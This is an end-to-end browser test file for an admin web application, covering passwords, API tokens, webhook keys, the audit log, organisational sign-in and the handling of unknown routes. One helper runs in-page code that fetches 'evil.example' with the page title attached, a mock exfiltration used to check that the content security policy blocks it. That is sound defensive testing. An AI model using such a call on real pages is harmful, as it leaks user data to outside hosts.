"""Who may come in and what was done, in a real browser: accounts, keys, the log, and an organisation's door."""

import re
from pathlib import Path

import httpx
from playwright.sync_api import Browser, Page, expect
from support import admin_site, openid_provider
from support.admin_site import HOSTILE, MARKUP, PASSWORD, Enter, Site
from support.openid_provider import CLIENT, SECRET

from tip_serving.admin.service.users import Role, User

NEW = "a walk in the other park"
ROOT = User("root", Role.ADMIN)


def _made(site: Site, name: str, role: Role = Role.VIEWER) -> None:
    with site.opened() as admin:
        admin.people.add(ROOT, name, role, PASSWORD)


def test_a_person_changes_their_password_and_signs_in_with_the_new_one(enter: Enter, site: Site) -> None:
    _made(site, "paula", Role.JUDGE)
    page = enter("paula")
    page.get_by_role("link", name="paula").click()
    page.get_by_role("heading", level=1, name="paula").wait_for()
    page.get_by_label("Current password").fill("not this one at all")
    page.get_by_label("New password").fill(NEW)
    page.get_by_role("button", name="Change the password").click()
    expect(page.locator("#e-current")).to_contain_text("not right")
    page.get_by_label("Current password").fill(PASSWORD)
    page.get_by_label("New password").fill("short")
    page.get_by_role("button", name="Change the password").click()
    expect(page.locator("#e-new .fault")).to_contain_text("12")
    page.get_by_label("New password").fill(NEW)
    page.get_by_role("button", name="Change the password").click()
    expect(page.get_by_role("status")).to_contain_text("another one now")
    page.get_by_label("Name").fill("paula")
    page.get_by_label("Password").fill(NEW)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", level=1, name="Judge").wait_for()


def test_a_token_is_shown_once_works_and_works_no_more_once_revoked(enter: Enter, site: Site) -> None:
    page = enter("vera", "/account")
    page.get_by_role("button", name="Make a token").click()
    expect(page.locator("#e-label")).to_contain_text("what the token is for")
    page.get_by_label("What it is for").fill(f"nightly report {MARKUP}")
    page.get_by_label("Holds for").select_option("7")
    page.get_by_role("button", name="Make a token").click()
    token = page.get_by_label("Your new token").input_value()
    headers = {"Authorization": f"Bearer {token}"}
    assert httpx.get(f"{site.url}/api/session", headers=headers).json()["name"] == "vera"
    page.reload()
    row = page.get_by_role("row", name="nightly report")
    expect(row).to_be_visible()
    expect(page.get_by_text(token)).to_have_count(0)

    root = enter("root", "/tokens")
    expect(root.get_by_role("row", name="nightly report")).to_contain_text("vera")
    root.get_by_role("button", name="Revoke nightly report").click()
    root.get_by_role("button", name="Really revoke nightly report").click()
    expect(root.get_by_role("row", name="nightly report")).to_have_count(0)
    assert httpx.get(f"{site.url}/api/session", headers=headers).status_code == 401


def test_a_webhook_key_is_made_shown_once_and_revoked(enter: Enter, site: Site) -> None:
    page = enter("root", "/webhooks")
    expect(page.get_by_role("heading", name="No key yet")).to_be_visible()
    page.get_by_label("Name of the judge").fill("no name!")
    page.get_by_role("button", name="Make a key").click()
    expect(page.locator("#e-judge .fault")).to_be_visible()
    page.get_by_label("Name of the judge").fill("agent")
    page.get_by_role("button", name="Make a key").click()
    assert page.get_by_label("The secret of agent").input_value().startswith("tipw_")
    with site.opened() as admin:
        (key,) = admin.people.webhooks(ROOT)
    assert key.judge == "agent"
    page.get_by_role("button", name="Revoke agent").click()
    page.get_by_role("button", name="Really revoke agent").click()
    expect(page.get_by_role("heading", name="No key yet")).to_be_visible()
    with site.opened() as admin:
        assert admin.people.webhooks(ROOT) == []


def test_the_log_shows_what_happens_as_it_happens_and_is_sifted(enter: Enter, site: Site) -> None:
    page = enter("root", "/audit")
    page.get_by_label("Done by").fill("the-gardener")
    expect(page.get_by_text("Nothing like that")).to_be_visible()
    with site.opened() as admin:
        admin.audit.note(User("the-gardener", Role.ADMIN), "cancel", MARKUP, {"reason": MARKUP})
    entry = page.locator(".log > li[data-action=cancel]")
    expect(entry).to_have_count(1)
    expect(entry).to_contain_text(MARKUP)
    page.get_by_role("combobox", name="What").select_option("cancel")
    expect(page).to_have_url(re.compile(r"action=cancel&by=the-gardener"))
    page.reload()
    expect(entry).to_have_count(1)
    page.get_by_label("Done by").fill("")
    page.get_by_role("combobox", name="What").select_option("sign-in")
    expect(page.locator(".log > li[data-action=cancel]")).to_have_count(0)
    expect(page.locator(".log > li[data-action='sign in']").first).to_be_visible()


def test_somebody_comes_in_through_their_organisation(browser: Browser, tmp_path: Path) -> None:
    with openid_provider.running() as provider:
        named = {"TIP_OIDC_ISSUER": provider.issuer, "TIP_OIDC_CLIENT_ID": CLIENT, "TIP_OIDC_CLIENT_SECRET": SECRET}
        with admin_site.running(tmp_path / "home", **named) as site:
            page = browser.new_context(base_url=site.url).new_page()
            page.goto("/prompts")
            page.get_by_role("link", name="Sign in through your organisation").click()
            page.get_by_role("heading", level=1, name="Prompts").wait_for()
            page.get_by_role("link", name="olga").click()
            expect(page.get_by_text("You sign in through your organisation")).to_be_visible()
            provider.claims = {"roles": []}
            page.get_by_role("button", name="Sign out").click()
            page.get_by_role("link", name="Sign in through your organisation").click()
            expect(page.get_by_role("alert")).to_contain_text("did not let you in")
            page.context.close()


def test_an_event_on_an_open_socket_does_nothing_once_its_session_has_ended(enter: Enter, site: Site) -> None:
    page = enter("root", "/webhooks")
    page.get_by_label("Name of the judge").fill("too-late")
    site.end_sessions()
    page.get_by_role("button", name="Make a key").click()
    page.wait_for_url("**/sign-in?next=*")
    with site.opened() as admin:
        assert [row.judge for row in admin.people.webhooks(ROOT)] == []


def test_no_page_is_there_that_nobody_made_and_no_route_answers_as_a_page(enter: Enter) -> None:
    page = enter("vera", "/no/such/page")
    expect(page.get_by_role("heading", name="Not here")).to_be_visible()
    assert page.request.get("/no/such/page").status == 404
    for method, path, status in (
        ("GET", "/api/nothing", 404),
        ("PUT", "/api/bench/experiments", 405),
        ("DELETE", f"/api/bench/runs/{HOSTILE}", 405),
    ):
        answer = page.request.fetch(path, method=method)
        assert (answer.status, answer.headers["content-type"]) == (status, "application/problem+json"), path
        assert "allow" in answer.headers or status == 404


def test_nothing_is_fetched_from_elsewhere_and_a_page_could_not(enter: Enter) -> None:
    page = enter("root")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for path in ("/", f"/experiments/{HOSTILE}", "/users", "/audit"):
        page.goto(path)
        page.locator("h1").wait_for()
    assert {url for url in asked if not url.startswith(("http://127.0.0.1", "ws://127.0.0.1", "data:"))} == set()
    assert _refused_by_policy(page)


def _refused_by_policy(page: Page) -> bool:
    """Whether a program that was smuggled in could send anything away."""
    return bool(
        page.evaluate(
            """() => new Promise((done) => {
              document.addEventListener("securitypolicyviolation", () => done(true));
              fetch("https://evil.example/?" + document.title).catch(() => setTimeout(() => done(false), 500));
            })"""
        )
    )
